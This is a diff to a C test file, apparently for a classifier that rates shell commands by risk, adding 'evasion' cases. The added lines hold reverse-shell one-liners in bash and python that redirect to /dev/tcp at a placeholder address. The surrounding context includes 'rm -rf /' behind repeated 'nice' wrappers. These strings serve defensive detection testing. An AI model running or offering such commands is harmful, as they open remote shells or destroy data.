@@ -992,6 +992,12 @@ evasions(void)
 	evade("sh < /tmp/a", H, NULL);
 	evade("sh /dev/stdin < /tmp/a", H, NULL);
 	evade("sh 3</tmp/a <&3", H, NULL);
+	/* a shell reading the network: 0>&1 dups as 0<&1 does */
+	evade("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", H, NULL);
+	evade("bash -i > /dev/tcp/192.0.2.1/4444 0>&1 2>&1", H, NULL);
+	evade("bash -c 'sh -i' >& /dev/tcp/192.0.2.1/4444 0>&1", H, NULL);
+	evade("python3 -i >& /dev/tcp/192.0.2.1/4444 0>&1", H, NULL);
+	shell("ls 0>&1", L, "ls");
 	/* past the wrappers looked into: not known */
 	evade("nice nice nice nice nice nice nice nice nice rm -rf /", H,
 	    NULL);
